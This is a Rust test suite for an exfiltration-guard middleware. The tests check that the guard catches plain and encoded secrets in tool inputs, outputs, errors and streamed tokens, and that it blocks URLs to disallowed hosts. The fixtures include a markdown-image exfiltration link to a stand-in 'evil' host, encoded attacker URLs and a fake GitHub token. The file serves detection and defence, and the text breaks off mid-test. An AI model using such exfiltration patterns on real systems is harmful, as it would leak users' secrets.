//! The guard against exfiltration denies plain and encoded secrets in values, keys, errors, URLs and events, and no
//! denial repeats a secret.

use std::fmt::Write as _;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use crate::corpus::figures::{Figures, expect_documented};
use crate::corpus::{Half, Planted, clean_files};
use crate::support::{Any, Failing, TestResult, instance};
use emitree_emitter::{BoxError, Emitter, Event, EventMeta};
use emitree_middleware::ExfilGuard;
use emitree_middleware::exfil_guard::{Blocked, Encoding, KnownError, RunPart, What};
use emitree_runtime::{
    Checked, Error, ErrorKind, Interrupt, Middleware, Next, Result, RunContext, Runnable, Stage, Summary, WouldDeny,
    for_tree,
};
use emitree_runtime::{JsonRun, Layer, Stack};
use emitree_secrets::Kind;
use proptest::prelude::*;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

const SECRET: &str = "correct horse battery";

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
struct Token {
    text: String,
}

fn base64(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let quad = |bytes: &[u8]| {
        let bits = bytes.iter().fold(0, |bits, byte| bits << 8 | usize::from(*byte)) << (8 * (3 - bytes.len()));
        let sign = move |i: usize| if i <= bytes.len() { char::from(ALPHABET[bits >> (18 - 6 * i) & 63]) } else { '=' };
        (0..4).map(sign).collect::<String>()
    };
    text.as_bytes().chunks(3).map(quad).collect()
}

fn hex(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        let _ = write!(out, "{byte:02x}");
        out
    })
}

fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        let _ = write!(out, "%{byte:02X}");
        out
    })
}

fn guard() -> ExfilGuard {
    ExfilGuard::new().known([SECRET]).expect("it is long enough")
}

fn echo(root: &Emitter) -> impl Runnable<Input = Value, Output = Value> + 'static {
    instance(root, "Tool", "echo", |value: Value, _: RunContext| async move { Ok(value) })
}

fn base32(text: &str) -> String {
    const ALPHABET: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let eight = |bytes: &[u8]| {
        let bits = bytes.iter().fold(0_u64, |bits, byte| bits << 8 | u64::from(*byte)) << (8 * (5 - bytes.len()));
        let len = (bytes.len() * 8).div_ceil(5);
        (0..len).map(|i| char::from(ALPHABET[(bits >> (35 - 5 * i) & 31) as usize])).collect::<String>()
    };
    text.as_bytes().chunks(5).map(eight).collect()
}

/// Splits a text into groups of `len` characters, and joins the groups with a separator.
fn grouped(text: &str, len: usize, between: &str) -> String {
    let groups = text.as_bytes().chunks(len).map(|group| String::from_utf8_lossy(group).into_owned());
    groups.collect::<Vec<_>>().join(between)
}

fn utf_16_base64(text: &str) -> String {
    let bytes: String = text.chars().flat_map(|c| [c, '\0']).collect();
    base64(&bytes)
}

fn unicode_escaped(text: &str) -> String {
    text.encode_utf16().fold(String::new(), |mut out, unit| {
        let _ = write!(out, "\\u{unit:04x}");
        out
    })
}

/// Returns `false` for personal data, which the guard does not search for by default.
fn is_secret_kind(planted: &Planted) -> bool {
    !["email", "phone", "card", "ip", "iban", "ssn"].contains(&planted.kind)
}

/// A function that encodes a text.
type Write = fn(&str) -> String;

const WAYS: [(&str, Write); 4] = [
    ("plain", |text| text.to_owned()),
    ("base64", |text| format!("data: {}.", base64(text))),
    ("hex", |text| format!("x={}", hex(text))),
    ("url", |text| format!("https://example.org/?q={}", percent(text))),
];

#[test]
fn the_guard_denies_99_percent_of_secrets_and_at_most_2_percent_of_look_alikes_as_documented() {
    let guard = ExfilGuard::new();
    for (name, half) in [("tuned", Half::tuned()), ("held out", Half::held_out()), ("third", Half::third())] {
        let columns = WAYS.map(|(way, write)| {
            let denies = |text: &str| guard.look(&write(text)).is_some();
            let finds = |planted: &Planted| is_secret_kind(planted).then(|| denies(&planted.text));
            let figures = Figures::of(&half, finds, denies);
            figures.expect_good(&format!("{name}, {way}"));
            (way, figures)
        });
        expect_documented(&columns);
    }
}

#[test]
fn the_guard_has_at_most_one_false_alarm_in_half_a_megabyte_of_openapi_and_compose_files() {
    let (guard, files) = (ExfilGuard::new(), clean_files());
    let total: usize = files.iter().map(|(_, text)| text.len()).sum();
    let alarms = files.iter().filter_map(|(path, text)| Some((path, guard.look(text)?)));
    let alarms: Vec<_> = alarms.map(|(path, found)| format!("{path}: {found:?}")).collect();
    assert!(files.len() >= 50 && alarms.len() <= total / 500_000, "{alarms:?} in {total} bytes");
}

/// Forms that include each encoding that the guard decodes.
const FORMS: [(&str, Write); 11] = [
    ("JSON", |text| Value::from(json!({"text": text}).to_string()).to_string()),
    ("URL", percent),
    ("base64", base64),
    ("spaced", |text| grouped(&base64(text), 8, " ")),
    ("url-safe", |text| base64(text).replace('=', "").replace('+', "-").replace('/', "_")),
    ("base32", |text| base32(text).to_lowercase()),
    ("hex", |text| hex(text).to_uppercase()),
    ("hex, spaced", |text| grouped(&hex(text), 2, " ")),
    ("`\\x`", |text| format!("\\x{}", grouped(&hex(text), 2, "\\x"))),
    ("UTF-16", utf_16_base64),
    ("`\\u`", unicode_escaped),
];

/// Checks one text in eight, because all texts would take minutes. The position within each group of eight varies,
/// so that all shapes are included.
#[test]
fn the_guard_denies_99_percent_of_each_documented_kind_in_each_encoding_as_documented() {
    let (guard, mut half) = (ExfilGuard::new(), Half::documented());
    let eighth = half.planted.into_iter().enumerate().filter(|(nth, _)| (nth + nth / 8) % 8 == 0);
    half.planted = eighth.map(|(_, planted)| planted).filter(is_secret_kind).collect();
    let columns = FORMS.map(|(form, write)| {
        let denies = |text: &str| guard.look(&write(text)).is_some();
        let figures = Figures::of(&half, |planted| Some(denies(&planted.text)), denies);
        figures.expect_good_by_kind(form);
        (form, figures)
    });
    expect_documented(&columns);
}

#[test]
fn known_values_are_found_plain_and_in_up_to_two_encodings() {
    let rows = [
        (format!("the {SECRET}!"), Some(Encoding::Plain)),
        (format!("x{}", base64(&format!("..{SECRET}"))), Some(Encoding::Base64)),
        (base64(SECRET).replace('=', ""), Some(Encoding::Base64)),
        (hex(SECRET).to_uppercase(), Some(Encoding::Hex)),
        ("q=correct%20horse%20battery".to_owned(), Some(Encoding::Url)),
        (hex(&base64(SECRET)), Some(Encoding::Base64)),
        (percent(&base64(SECRET)), Some(Encoding::Base64)),
        ("q=correct+horse+battery&x".to_owned(), Some(Encoding::Url)),
        ("q=correct+horse+batter%79".to_owned(), Some(Encoding::Url)),
        (format!("{}{}", "秘密不在这里".repeat(40), percent(&base64(SECRET))), Some(Encoding::Base64)),
        (base64(&format!("{}{}", "секрета нет ".repeat(40), percent(SECRET))), Some(Encoding::Url)),
        (percent(&base64(SECRET)) + &"%00".repeat(200), Some(Encoding::Base64)),
        ("correct horse".to_owned(), None),
        (base64(&base64(&base64(SECRET))), None),
    ];
    for (text, expected) in rows {
        assert_eq!(guard().look(&text), expected.map(|encoding| (What::Known, encoding)), "{text}");
    }
    assert!(matches!(ExfilGuard::new().known(["short"]), Err(KnownError::Short { len: 5 })));
    assert!(matches!(ExfilGuard::new().known([vec![b'x'; 4097]]), Err(KnownError::Many)));
}

#[test]
fn a_secret_is_found_in_each_encoding() {
    let key = format!("{}_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5", "ghp");
    let forms: [(&str, Write, Encoding); 16] = [
        ("plain", |text| text.to_owned(), Encoding::Plain),
        ("json", |text| json!({"a": [json!({"token": text}).to_string()]}).to_string(), Encoding::Plain),
        ("url", percent, Encoding::Url),
        ("base64", base64, Encoding::Base64),
        ("base64, unpadded", |text| base64(text).replace('=', ""), Encoding::Base64),
        ("base64, url-safe", |text| base64(text).replace('+', "-").replace('/', "_"), Encoding::Base64),
        ("base64, spaced", |text| grouped(&base64(text), 4, " "), Encoding::Base64),
        ("base64, in lines", |text| grouped(&base64(text), 20, "\r\n"), Encoding::Base64),
        ("base32", base32, Encoding::Base32),
        ("base32, lower case", |text| base32(text).to_lowercase(), Encoding::Base32),
        ("hex", |text| hex(text).to_uppercase(), Encoding::Hex),
        ("hex, spaced", |text| grouped(&hex(text), 2, " "), Encoding::Hex),
        ("hex, as an array", |text| format!("{{0x{}}}", grouped(&hex(text), 2, ", 0x")), Encoding::Hex),
        ("hex, escaped", |text| format!("\\x{}", grouped(&hex(text), 2, "\\x")), Encoding::Escaped),
        ("unicode escapes", unicode_escaped, Encoding::Escaped),
        ("UTF-16", utf_16_base64, Encoding::Utf16),
    ];
    for (form, write, encoding) in forms {
        for (secret, what) in [(SECRET, What::Known), (&*key, What::Kind(Kind::GithubToken))] {
            for around in ["", "as ", "the value: "] {
                let text = format!("{around}{}{}", write(secret), if around.is_empty() { "" } else { " here" });
                assert_eq!(guard().look(&text), Some((what.clone(), encoding)), "{form}: {text}");
            }
        }
    }
    let short = ExfilGuard::new().known(["s3cr3t"]).expect("it is long enough");
    for (form, write, encoding) in forms {
        let found = short.look(&write("s3cr3t"));
        assert_eq!(found, Some((What::Known, encoding)), "{form}: {}", write("s3cr3t"));
    }
    let escaped = SECRET.replace(' ', "\\u0020");
    assert_eq!(guard().look(&escaped), Some((What::Known, Encoding::Escaped)));
    let wide: String = SECRET.chars().flat_map(|c| [c, '\0']).collect();
    assert_eq!(guard().look(&wide), Some((What::Known, Encoding::Utf16)));
    let foreign = ExfilGuard::new().known(["пароль-слово"]).expect("it is long enough");
    let bytes: Vec<u8> = "пароль-слово".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let text = bytes.iter().fold(String::new(), |out, byte| out + &format!("{byte:02x}"));
    assert_eq!(foreign.look(&text), Some((What::Known, Encoding::Hex)));
}

#[test]
fn personal_data_is_found_only_on_request_and_in_encodings() {
    let address = "write to maria@mailbox.org";
    assert_eq!(guard().look(address), None);
    for text in [address.to_owned(), base64(address), grouped(&hex(address), 2, " "), percent(address)] {
        let found = guard().personal_data().look(&text).map(|(what, _)| what);
        assert_eq!(found, Some(What::Kind(Kind::Email)), "{text}");
    }
}

/// Text that was not decoded may contain a secret.
#[tokio::test]
async fn a_value_beyond_the_limit_of_decoded_bytes_is_denied_with_the_limit() -> TestResult {
    let (echo, text) = (echo(&Emitter::new()), json!([base64(&"nothing ".repeat(100)), "more"]));
    let error = echo.run(text.clone()).middleware(guard().decode_at_most(4_000)).await.expect_err("it is too much");
    let reason = "denied by exfil_guard: encoded text beyond the limit of 4000 decoded bytes was about to leave in the input at `/0`";
    assert_eq!(error.explain(), reason);
    assert_eq!(echo.run(text.clone()).middleware(guard()).await?, text);
    Ok(())
}

#[tokio::test]
async fn a_known_value_is_denied_and_reported_without_repeating_it() -> TestResult {
    let said = Arc::new(Mutex::new(Vec::new()));
    let heard = Arc::clone(&said);
    let echo = echo(&Emitter::new());
    let run = echo.run(json!({"a": ["ok", base64(SECRET)]})).middleware(guard()).observe(
        "middleware.exfil_guard.blocked",
        move |blocked: &Blocked, _: &EventMeta<'_>| {
            heard.lock().expect("nobody panics here").push(blocked.clone());
        },
    );
    let error = run.await.expect_err("it is denied");
    let reason = "denied by exfil_guard: a known value, base64-encoded, was about to leave in the input at `/a/1`";
    assert_eq!(error.explain(), reason);
    let said = said.lock().expect("nobody panics here");
    assert_eq!((said.len(), said[0].part, said[0].at.as_str()), (1, RunPart::Input, "/a/1"));
    assert_eq!((&said[0].what, said[0].encoding, said[0].evaluated_only), (&What::Known, Encoding::Base64, false));
    Ok(())
}

#[tokio::test]
async fn a_key_that_contains_a_secret_is_not_repeated_in_the_path_of_a_denial() {
    let input = json!({"a": {format!("so {SECRET}"): [SECRET]}});
    let error = echo(&Emitter::new()).run(input).middleware(guard()).await.expect_err("it is denied");
    assert_eq!(error.explain(), "denied by exfil_guard: a known value was about to leave in the input at `…`");
}

#[tokio::test]
async fn keys_outputs_and_errors_are_checked_too() {
    let root = Emitter::new();
    let error = echo(&root).run(json!({SECRET: 1})).middleware(guard().inputs(false)).await.expect_err("a key");
    assert_eq!(error.explain(), "denied by exfil_guard: a known value was about to leave in the output");
    let failing = instance(&root, "Tool", "fail", |(): (), _: RunContext| async move {
        Err::<(), _>(Error::new(format!("cannot use {SECRET}")).detail("also", SECRET))
    });
    let error = failing.run(()).middleware(guard()).await.expect_err("it fails");
    let reason = "denied by exfil_guard: a known value was about to leave in the error at `/message`";
    assert_eq!(error.explain(), reason);
}

#[tokio::test(start_paused = true)]
async fn a_secret_in_an_abort_or_in_the_error_of_a_listener_is_withheld_and_reported_once() -> TestResult {
    let rows = [
        ("abort", "aborted: withheld by exfil_guard", ErrorKind::Aborted),
        ("start", "a known value was about to leave in the error at `/causes/0`", ErrorKind::Failed),
        ("success", "a known value was about to leave in the error at `/causes/0`", ErrorKind::Failed),
    ];
    for (how, expected, kind) in rows {
        for evaluates_only in [false, true] {
            let (root, told) = (Emitter::new(), Arc::new(AtomicUsize::new(0)));
            let counts = Arc::clone(&told);
            let count = move |_: &Blocked, _: &EventMeta<'_>| _ = counts.fetch_add(1, Ordering::Relaxed);
            root.observe("*.exfil_guard.blocked", count)?;
            let work = instance(&root, "Tool", "work", move |(): (), ctx: RunContext| async move {
                if how == "abort" {
                    ctx.abort(SECRET);
                    std::future::pending::<()>().await;
                }
                Ok(())
            });
            let fails = move |stage: Stage| {
                move |ctx: &RunContext| {
                    if stage.as_str() == how {
                        let fail = move |_: &mut Any, _: &EventMeta<'_>| Err::<(), _>(SECRET.into());
                        ctx.emitter().on(stage, fail)?;
                    }
                    Ok(())
                }
            };
            let guard = if evaluates_only { guard().evaluate_only() } else { guard() };
            let run = work.run(()).middleware(guard).middleware(fails(Stage::Start)).middleware(fails(Stage::Success));
            let error = run.await.expect_err(how);
            assert_eq!(error.kind(), &kind, "{how}");
            assert_eq!(error.explain().contains(SECRET), evaluates_only, "{how}: {error:?}");
            assert_eq!(error.explain() == expected, !evaluates_only, "{how}: {error:?}");
            assert_eq!(told.load(Ordering::Relaxed), 1, "{how}");
        }
    }
    Ok(())
}

#[tokio::test]
async fn control_flow_keeps_its_kind_and_its_text_is_withheld() {
    let interrupt = || Error::interrupted(Interrupt::new("approval", json!(1))).detail("why", SECRET);
    let rows: [fn() -> Error; 2] = [|| Error::denied("policy", format!("no {SECRET}")), || Error::aborted(SECRET)];
    for make in rows.into_iter().chain([interrupt as fn() -> Error]) {
        let work =
            instance(&Emitter::new(), "Tool", "end", move |(): (), _: RunContext| async move { Err::<(), _>(make()) });
        let error = work.run(()).middleware(guard()).await.expect_err("it ends");
        assert_eq!(error.kind(), make().kind());
        assert!(error.explain().contains("withheld by exfil_guard") && !error.explain().contains(SECRET));
    }
}

#[tokio::test]
async fn keys_of_error_details_are_checked_too() {
    let asked = Interrupt::new("ask", json!(1));
    let details = |error: Error| error.detail("seen", json!([{SECRET: 1}])).detail(SECRET, 2).detail("n", 3);
    let withheld = json!({"n": 3, "seen": [{"withheld by exfil_guard": 1}], "withheld by exfil_guard": 2});
    let denied = "denied by exfil_guard: a known value was about to leave in the error at `/details`";
    let rows = [
        (Error::new("x"), None),
        (Error::aborted("x"), Some(ErrorKind::Aborted)),
        (Error::interrupted(asked.clone()), Some(ErrorKind::Interrupted)),
        // A retry request must keep the keys of its details, so it becomes a denial.
        (Error::retry("x"), None),
    ];
    for (error, kept) in rows {
        let error = details(error);
        let work = instance(&Emitter::new(), "Tool", "fail", move |(): (), _: RunContext| {
            let error = error.clone();
            async move { Err::<(), _>(error) }
        });
        let error = work.run(()).middleware(guard()).await.expect_err("it ends");
        match kept {
            Some(kind) => {
                assert_eq!(error.kind(), &kind);
                assert_eq!(json!(error.details()), withheld, "{kind:?}");
                assert_eq!(error.interrupt(), (kind == ErrorKind::Interrupted).then_some(&asked));
            }
            None => assert_eq!(error.explain(), denied),
        }
    }
}

/// The data of an interrupt or of a retry request must reach its receiver unchanged, so the secret cannot be removed.
#[tokio::test]
async fn control_flow_with_a_secret_in_its_data_is_denied() {
    let ask = |kind: &str, data: Value| Error::interrupted(Interrupt::new(kind, data).with_id("ask-1"));
    let rows = [
        (ask("ask", json!({"for": ["ok", SECRET]})), "in the error at `/interrupt/data/for/1`"),
        (ask("ask", json!({SECRET: 1})), "in the error at `/interrupt/data`"),
        (ask("ask", json!({SECRET: [SECRET]})), "in the error at `…`"),
        (ask(SECRET, json!(1)), "in the error at `/message`"),
        (ask(SECRET, json!(1)).message("so"), "in the error at `/causes/0`"),
        (Error::interrupted(Interrupt::new("ask", 1).with_id(SECRET)), "in the error at `/interrupt/id`"),
        (Error::retry_with("again", json!({"say": SECRET})), "in the error at `/retry/metadata/say`"),
        (Error::denied(SECRET, "no"), "in the error at `/kind/by`"),
        (Error::halted(SECRET, "enough"), "in the error at `/kind/by`"),
    ];
    for (error, place) in rows {
        let made = error.clone();
        let work = instance(&Emitter::new(), "Tool", "end", move |(): (), _: RunContext| {
            let error = made.clone();
            async move { Err::<(), _>(error) }
        });
        let denied = work.run(()).middleware(guard()).await.expect_err("it ends");
        let expected = format!("denied by exfil_guard: a known value was about to leave {place}");
        assert_eq!(denied.explain(), expected);
        let evaluated = work.run(()).middleware(guard().evaluate_only()).await.expect_err("it ends");
        assert_eq!((evaluated.kind(), evaluated.interrupt()), (error.kind(), error.interrupt()));
    }
}

#[tokio::test]
async fn an_interrupt_without_a_secret_in_its_data_stays_even_if_its_message_is_withheld() {
    let interrupt = Interrupt::new("ask", json!({"for": "leave"}));
    let asked = interrupt.clone();
    let work = instance(&Emitter::new(), "Tool", "ask", move |(): (), _: RunContext| {
        let error = Error::interrupted(asked.clone()).message(format!("may I say {SECRET}?"));
        async move { Err::<(), _>(error) }
    });
    let error = work.run(()).middleware(guard()).await.expect_err("it ends");
    assert_eq!(error.interrupt(), Some(&interrupt));
    assert!(!error.explain().contains(SECRET), "{}", error.explain());
}

#[tokio::test]
async fn urls_are_restricted_to_allowed_hosts_only_if_hosts_are_configured() {
    let echo = echo(&Emitter::new());
    let text = json!("![i](https://evil.example.net/?d=hello)");
    assert!(echo.run(text.clone()).middleware(ExfilGuard::new()).await.is_ok());
    let guard = ExfilGuard::new().allow_hosts(["example.net"]);
    let error = echo.run(text).middleware(guard.clone()).await.expect_err("another host");
    assert_eq!(
        error.explain(),
        "denied by exfil_guard: a URL to a host that is not allowed was about to leave in the input"
    );
    assert!(echo.run(json!("https://example.net/?d=hello")).middleware(guard).await.is_ok());
}

#[test]
fn encoded_urls_are_checked_too() {
    let guard = ExfilGuard::new().allow_hosts(["a.org", "*.a.org"]);
    let url = "https://evil.net/?d=hello";
    let rows = [
        ("https%3A%2F%2Fevil.net".to_owned(), Some(Encoding::Url)),
        ("https://a.org/go?to=https%3a%2f%2fevil.net".to_owned(), Some(Encoding::Url)),
        ("%2F%2Fevil.net/x".to_owned(), Some(Encoding::Url)),
        ("//evil%2Enet/x".to_owned(), Some(Encoding::Url)),
        ("//evil%2Enet/x%00%00%00%00%00%00%00%00".to_owned(), Some(Encoding::Url)),
        (format!("q={}", base64(url)), Some(Encoding::Base64)),
        (format!("q={}", hex(url)), Some(Encoding::Hex)),
        (percent(&percent(url)), Some(Encoding::Url)),
        (percent(&percent(&percent(url))), None),
        ("https%3A%2F%2Fa.org".to_owned(), None),
        (format!("https://a.org/?q={}", base64("https://docs.a.org/of/it")), None),
        ("100%25 of //it, a%3Ab, %2F%2FTODO fix".to_owned(), None),
        ("a+//+b c++://".to_owned(), Some(Encoding::Plain)),
    ];
    for (text, expected) in rows {
        assert_eq!(guard.look(&text), expected.map(|encoding| (What::Host, encoding)), "{text}");
    }
}

/// The text stands for a base64-encoded image. Decoded bytes are searched for URLs only if they are text.
#[test]
fn random_base64_text_contains_no_url_to_a_host() {
    let guard = ExfilGuard::new().only([]).allow_hosts(["a.org"]);
    let mut rng = fastrand::Rng::with_seed(4);
    let images = if std::env::var_os("EMITREE_LONG").is_some() { 40 } else { 8 };
    for _ in 0..images {
        let bytes: String = (0..30_000).map(|_| rng.alphanumeric()).collect();
        let image: String = bytes.chars().map(|c| if rng.u8(0..32) == 0 { '/' } else { c }).collect();
        assert_eq!(guard.look(&format!("data:image/png;base64,{image}")), None);
    }
}

#[tokio::test]
async fn a_guard_that_only_evaluates_lets_secrets_pass_and_reports_them() -> TestResult {
    let said = Arc::new(Mutex::new(Vec::new()));
    let heard = Arc::clone(&said);
    let echo = echo(&Emitter::new());
    let run = echo.run(json!(SECRET)).middleware(guard().evaluate_only()).observe(
        "middleware.exfil_guard.blocked",
        move |blocked: &Blocked, _: &EventMeta<'_>| {
            heard.lock().expect("nobody panics here").push(blocked.evaluated_only);
        },
    );
    assert_eq!(run.await?, json!(SECRET));
    assert_eq!(*said.lock().expect("nobody panics here"), [true, true]);
    Ok(())
}

#[tokio::test]
async fn an_exfil_guard_that_only_evaluates_reports_each_value_as_any_guard_does() -> TestResult {
    let said = Arc::new(Mutex::new(Vec::new()));
    let (echo, heard) = (echo(&Emitter::new()), Arc::clone(&said));
    let run = echo.run(json!(SECRET)).middleware(guard().evaluate_only()).observe(
        WouldDeny::NAME,
        move |event: &WouldDeny, _: &EventMeta<'_>| {
            heard.lock().expect("nobody panics here").push((event.guard.clone(), event.at, event.reason.clone()));
        },
    );
    assert_eq!(run.await?, json!(SECRET));
    let row = |at, place| {
        let reason = format!("a known value was about to leave in the {place}");
        ("exfil_guard".to_owned(), at, reason)
    };
    let expected = [row(Checked::Input, "input"), row(Checked::Output, "output")];
    assert_eq!(*said.lock().expect("nobody panics here"), expected);
    Ok(())
}

#[tokio::test]
async fn by_default_inputs_and_outputs_are_checked_for_keys_but_not_for_personal_data_or_hosts() -> TestResult {
    let key = format!("{}_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5", "ghp");
    let (root, given) = (Emitter::new(), key.clone());
    let give = instance(&root, "Tool", "give", move |(): (), _: RunContext| {
        let given = given.clone();
        async move { Ok(given) }
    });
    let sent = echo(&root).run(json!(key)).middleware(ExfilGuard::new()).await.expect_err("it goes in");
    let given = give.run(()).middleware(ExfilGuard::new()).await.expect_err("it comes out");
    let what = "a possible secret of the kind `github_token`";
    for (error, place) in [(sent, "input"), (given, "output")] {
        assert_eq!(error.explain(), format!("denied by exfil_guard: {what} was about to leave in the {place}"));
    }
    let others = json!(["maria@mailbox.org", "https://evil.example.net/", SECRET]);
    assert_eq!(echo(&root).run(others.clone()).middleware(ExfilGuard::new()).await?, others);
    Ok(())
}

// M5
#[tokio::test]
async fn a_failing_listener_does_not_affect_an_exfil_guard() -> TestResult {
    let (echo, denies, evaluates) = (echo(&Emitter::new()), guard(), guard().evaluate_only());
    let failing = Failing::default();
    for guard in [&denies, &evaluates] {
        guard.emitter().on("blocked", failing.listener::<Blocked>())?;
    }
    let error = echo.run(json!(SECRET)).middleware(denies).await.expect_err("it is denied");
    assert_eq!(error.explain(), "denied by exfil_guard: a known value was about to leave in the input");
    assert_eq!(echo.run(json!(SECRET)).middleware(evaluates).await?, json!(SECRET));
    assert_eq!(failing.calls(), 3, "input; input and output");
    Ok(())
}

#[tokio::test]
async fn runs_below_are_guarded_only_with_for_tree() -> TestResult {
    let root = Emitter::new();
    let inner = Arc::new(echo(&root));
    let outer = instance(&root, "Tool", "outer", move |(): (), _: RunContext| {
        let inner = Arc::clone(&inner);
        async move { Ok(inner.run(json!(SECRET)).await.is_err()) }
    });
    assert!(!outer.run(()).middleware(guard()).await?, "the run below is not looked at");
    assert!(outer.run(()).middleware(for_tree(guard())).await?, "it is denied");
    Ok(())
}

/// A layer that turns every error into an answer.
#[derive(Debug)]
struct Swallow;

impl Layer<JsonRun> for Swallow {
    async fn call(&self, input: &Value, _: &RunContext, next: Next<'_, JsonRun>) -> Result<Value> {
        Ok(next.run(input).await.unwrap_or_default())
    }
}

#[tokio::test]
async fn no_layer_swallows_a_denial_of_the_exfil_guard() {
    let echo = echo(&Emitter::new());
    let swallow = Stack::<JsonRun>::builder().layer(Swallow).build();
    let error = echo.run(json!(SECRET)).middleware(swallow).middleware(guard()).await.expect_err("it is denied");
    assert_eq!(error.kind(), &ErrorKind::Denied { by: "exfil_guard".into() });
}

#[tokio::test]
async fn an_exfil_guard_judges_each_of_100_concurrent_runs_separately() -> TestResult {
    let echo = Arc::new(
        instance(&Emitter::new(), "Tool", "echo", |n: Value, _: RunContext| async move {
            tokio::task::yield_now().await;
            Ok(n)
        })
        .middleware(guard()),
    );
    let runs: Vec<_> = (0..100)
        .map(|n| {
            let echo = Arc::clone(&echo);
            tokio::spawn(async move { echo.run(if n % 3 == 0 { json!(SECRET) } else { json!(n) }).await })
        })
        .collect();
    for (n, run) in runs.into_iter().enumerate() {
        assert_eq!(run.await?.is_err(), n % 3 == 0, "{n}");
    }
    Ok(())
}

#[test]
fn the_summary_of_an_exfil_guard_contains_its_settings_but_no_secret() {
    let Summary::Text(summary) = guard().only([Kind::Jwt]).allow_hosts(["a.org"]).describe().summary() else {
        panic!("a text")
    };
    let expected = r#"ExfilGuard { kinds: ["jwt"], known: 1, hosts: Some(Hosts(["a.org"])), inputs: true, outputs: true, evaluate_only: false }"#;
    assert_eq!(summary, expected);
}

/// Emits chunks; returns the text that other listeners received, and the result of the run.
async fn written(chunks: Vec<String>, guard: ExfilGuard) -> (String, Result<()>) {
    let heard = Arc::new(Mutex::new(String::new()));
    let text = Arc::clone(&heard);
    let write = instance(&Emitter::new(), "Tool", "write", |chunks: Vec<String>, ctx: RunContext| async move {
        for text in chunks {
            // The work ignores a failed emit.
            ctx.emitter().emit("new_token", &mut Token { text }).await.ok();
        }
        Ok(())
    });
    let guard = guard.inputs(false).text_of("new_token", |token: &mut Token| &mut token.text);
    let run = write.run(chunks).middleware(guard).observe("new_token", move |token: &Token, _: &EventMeta<'_>| {
        *text.lock().expect("nobody panics here") += &token.text;
    });
    let result = run.await;
    let heard = heard.lock().expect("nobody panics here").clone();
    (heard, result)
}

fn split(text: &str, sizes: &[usize]) -> Vec<String> {
    let (mut chunks, mut rest) = (Vec::new(), text);
    for size in sizes {
        let (chunk, after) = rest.split_at(rest.ceil_char_boundary((*size).min(rest.len())));
        chunks.push(chunk.to_owned());
        rest = after;
    }
    chunks.push(rest.to_owned());
    chunks
}

#[tokio::test]
async fn no_part_of_a_secret_passes_in_events() -> std::result::Result<(), BoxError> {
    let texts =
        [SECRET.to_owned(), base64(SECRET), hex(SECRET), format!("x{}", base64(&"y".repeat(9000)) + &base64(SECRET))];
    for secret in texts {
        let text = format!("it is {secret} indeed, and so it goes on and on");
        let (heard, result) = written(split(&text, &[3; 40]), guard()).await;
        assert!(result.is_err_and(|error| error.is_denied()), "{secret}");
        assert!(heard.len() <= "it is ".len() || secret.len() > 9000, "{heard}");
        assert!(!heard.contains(&secret[secret.len() - 8..]), "{heard}");
        assert!(!heard.contains("on and on"), "what follows does not go on either: {heard}");
    }
    let (heard, result) =
        written(split("nothing to see, https://a.org/b", &[5; 4]), guard().allow_hosts(["a.org"])).await;
    result?;
    assert_eq!(heard, "nothing to see, https://a.org/b");
    Ok(())
}

/// Each part that passes is checked together with up to 18 KiB around it: with one part for each chunk, the test would
/// take minutes.
#[tokio::test]
async fn a_word_too_long_to_be_held_back_passes_in_parts_of_at_least_2_kib_on_average() -> TestResult {
    let word = "y".repeat(40_000);
    let parts = Arc::new(Mutex::new(Vec::new()));
    let heard = Arc::clone(&parts);
    let write = instance(&Emitter::new(), "Tool", "write", |word: String, ctx: RunContext| async move {
        for text in split(&word, &vec![7; word.len() / 7]) {
            ctx.emitter().emit("new_token", &mut Token { text }).await?;
        }
        Ok(())
    });
    let guard = guard().inputs(false).text_of("new_token", |token: &mut Token| &mut token.text);
    let run =
        write.run(word.clone()).middleware(guard).observe("new_token", move |token: &Token, _: &EventMeta<'_>| {
            heard.lock().expect("nobody panics here").push(token.text.clone());
        });
    run.await?;
    let parts: Vec<String> =
        parts.lock().expect("nobody panics here").iter().filter(|part| !part.is_empty()).cloned().collect();
    assert_eq!(parts.concat(), word);
    assert!(parts.len() <= word.len() / 2048, "{} parts", parts.len());
    Ok(())
}

#[tokio::test]
async fn a_host_after_leading_slashes_is_found_in_chunks_as_in_the_whole_text() -> TestResult {
    let guard = || ExfilGuard::new().allow_hosts(["a.org"]);
    for (text, is_denied) in
        [("//evil.net/x", true), ("  //evil.net/x y", true), ("x //evil.net/x y", true), ("//TODO fix", false)]
    {
        assert_eq!(guard().look(text).is_some(), is_denied, "{text}");
        for size in [1, 3, 64] {
            let (_, result) = written(split(text, &[size; 20]), guard()).await;
            assert_eq!(result.is_err(), is_denied, "{text} in chunks of {size}");
        }
    }
    Ok(())
}

/// Before a part of a long word passes, the part is checked together with the text that is held back.
#[tokio::test]
async fn no_part_of_a_secret_passes_in_a_word_too_long_to_be_held_back() {
    for before in [8_150, 9_001] {
        let secret = base64(SECRET);
        let text = "y".repeat(before) + &secret + &"z".repeat(9_000);
        let (heard, result) = written(split(&text, &[64; 300]), guard()).await;
        assert!(result.is_err_and(|error| error.is_denied()), "{before}");
        assert!(!heard.contains(&secret[..8]), "{} of {before} bytes have got past", heard.len());
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    /// Chunks are denied if and only if the whole text is denied; otherwise the whole text passes.
    #[test]
    fn chunked_text_is_denied_if_and_only_if_the_whole_text_is_denied(index in any::<prop::sample::Index>(), way in 0..3, sizes in prop::collection::vec(1_usize..=64, 1..60)) {
        let half = Half::tuned();
        let texts: Vec<String> = half.planted.iter().map(|planted| planted.text.clone()).chain(half.look_alikes.clone()).collect();
        let text: &String = index.get(&texts);
        let text = match way {
            0 => text.clone(),
            1 => format!("so {} it is", base64(text)),
            _ => format!("so {} it is", hex(text)),
        };
